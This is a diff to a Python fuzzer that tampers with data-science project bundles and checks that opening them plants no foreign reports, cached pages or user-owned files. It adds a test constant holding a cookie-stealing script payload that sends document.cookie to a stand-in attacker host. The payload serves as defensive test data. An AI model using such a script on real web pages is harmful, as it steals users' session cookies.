@@ -15,35 +15,51 @@ import random
 import shutil
 import tarfile
 from collections.abc import Callable
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 from tests.fuzz.judge import ENDLESS, Finding, Tally, called, emitted
 from tests.fuzz.mutation import PATHS, SPEC, Files, change, mutated, nasty, places, seeds
 from tests.fuzz.search import tell, timed
-from tests.support.bundles import Parts, bundled, md5, parts_of, plain, with_results
+from tests.support.bundles import (
+    Parts,
+    Report,
+    bundled,
+    md5,
+    parts_of,
+    plain,
+    report_of,
+    with_results,
+)
 from tests.support.repositories import new_repo
 from tests.support.specs import SMALL
 
 BUNDLE = "b.gz"
 INTO = "there"
+PAGE = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
+"""A page of a stranger, which must be nowhere that a browser or tracking may come by."""
+OWN = ("mlflow.db", "mlflow.db-wal", "hardware.yaml", "reports/tiny/index.html", "mlruns/0/x.html")
+"""Files that whoever opens a bundle makes, or has as settings."""
 
 
-def seed_bundle(folder: Path) -> Parts:
-    """What mutation starts from: a small study with results, students and responses."""
+def seed_bundle(folder: Path) -> tuple[Parts, Report]:
+    """What mutation starts from: a small study with results, students and responses; its report."""
     repo = with_results(new_repo(folder / "seed", SMALL))
     parts = parts_of(bundled(repo, folder / BUNDLE))
     row = {"key": "a" * 64, "stage": "b" * 64, "at": 1.0, "reply": {"text": "one"}}
     parts.manifest["journal"] = {"responses": 1, **parts.add(json.dumps(row).encode() + b"\n")}
+    report = report_of(repo, PAGE)
     shutil.rmtree(folder / "seed")
-    return parts
+    return parts, report
 
 
-def tampered(rng: random.Random, seed: Parts, corpus: list[Files]) -> bytes:
+def tampered(rng: random.Random, seed: Parts, corpus: list[Files], report: Report) -> bytes:
     """The bytes of one bundle."""
     parts = Parts(copy.deepcopy(seed.manifest), dict(seed.members))
+    planted = partial(_planted, report=report)
     for _ in range(rng.choice([1, 1, 1, 2, 4])):
-        rng.choice([_said, _said, _path, _spec, _listing, _member])(parts, rng, corpus)
+        rng.choice([_said, _said, _path, _spec, _listing, _member, planted])(parts, rng, corpus)
     members = _members(parts)
     if rng.random() < 0.25:
         _archive(members, rng)
@@ -80,6 +96,20 @@ def _spec(parts: Parts, rng: random.Random, corpus: list[Files]) -> None:
     for row in _rows(parts, "files"):
         if row.get("path") == SPEC:
             row.update(parts.add(content))
+
+
+def _planted(parts: Parts, rng: random.Random, _corpus: list[Files], *, report: Report) -> None:
+    """Adds a report that fits in all but its page, its page alone, or what makers of both own."""
+    if not all(_rows(parts, name) for name in ("files", "objects", "experiments")):
+        return
+    match rng.randrange(3):
+        case 0:
+            parts.plant(report)
+        case 1:
+            parts.object(md5(PAGE), PAGE)
+        case _:
+            name = rng.choice(OWN)
+            parts.file(rng.choice([name, name.title()]), PAGE, code=rng.random() < 0.8)
 
 
 def _listing(parts: Parts, rng: random.Random, _corpus: list[Files]) -> None:
@@ -212,9 +242,21 @@ def _problem(code: int, out: str, said: str, folder: Path) -> str:
         name != "dvc.yaml" and not name.startswith(("store/", "experiments/")) for name in pipelines
     ):
         return f"a pipeline: {pipelines}"
+    own = {name.partition("/")[0] for name in OWN}
+    if there.is_dir() and own.intersection(path.name.casefold() for path in there.iterdir()):
+        return "a file that belongs to whoever opened it"
+    if _locked_reports(there):
+        return "a report that nobody made here"
+    if any(PAGE in path.read_bytes() for path in there.glob(".dvc/cache/files/*/*/*")):
+        return "a page of a stranger in DVC's cache"
     if code == 2 and "refused" in said and (there / "specs").exists():
         return "what was refused is there all the same"
     return emitted(there) if (there / "dvc.yaml").is_file() else ""
+
+
+def _locked_reports(there: Path) -> list[Path]:
+    """The locks with which DVC would make no report."""
+    return [*there.glob("dvc.lock"), *there.glob("experiments/*/dvc.lock")]
 
 
 def fuzz_bundles(
@@ -228,7 +270,7 @@ def fuzz_bundles(
     """Tries bundles `first` to `first + inputs` of a seed; opening one may take `limit` s of CPU."""
     tally, corpus = Tally(limit=limit), seeds()
     with timed(tally) as base:
-        original = seed_bundle(base)
+        original, report = seed_bundle(base)
         ready = new_repo(base / "ready", SMALL)
         shutil.rmtree(ready / "specs")
         folder = base / "work"
@@ -236,7 +278,7 @@ def fuzz_bundles(
         os.chdir(folder)
         for number in range(first, first + inputs):
             rng = random.Random(f"bundles/{seed}/{number}")
-            data = tampered(rng, original, corpus)
+            data = tampered(rng, original, corpus, report)
             problem = judge_bundle(data, folder, ready, tally, rng)
             if problem:
                 say(f"bundle {number}: {problem}")
